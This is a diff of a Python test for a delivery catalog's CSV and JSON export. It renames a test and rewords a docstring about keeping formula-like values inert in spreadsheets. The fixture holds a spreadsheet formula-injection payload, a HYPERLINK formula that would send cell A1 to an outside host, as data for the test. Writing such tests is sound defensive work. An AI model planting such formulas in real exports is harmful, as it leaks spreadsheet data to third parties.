@@ -1,4 +1,4 @@
-"""The catalog of a delivery: what programs read is as it was written, and what spreadsheets read computes nothing."""
+"""The catalog of a delivery: programs read the values unchanged, and spreadsheets compute nothing from them."""
 
 import csv
 import io
@@ -9,7 +9,7 @@ from stages.delivery.catalog import catalog_csv, catalog_json
 ORDERED = '=HYPERLINK("http://elsewhere/"&A1)'
 
 
-def test_a_name_that_a_spreadsheet_would_compute_is_a_text_there_and_as_it_was_to_programs():
+def test_a_name_like_a_formula_is_text_to_spreadsheets_and_unchanged_in_json():
     row = {"file": "clips/a_1.flac", "name": ORDERED, "title": "@me", "loudness": -16.0, "scores": {}, "bytes": 5}
     (cells,) = csv.DictReader(io.StringIO(catalog_csv([row]).decode()))
     assert (cells["name"], cells["title"]) == (f"'{ORDERED}", "'@me")
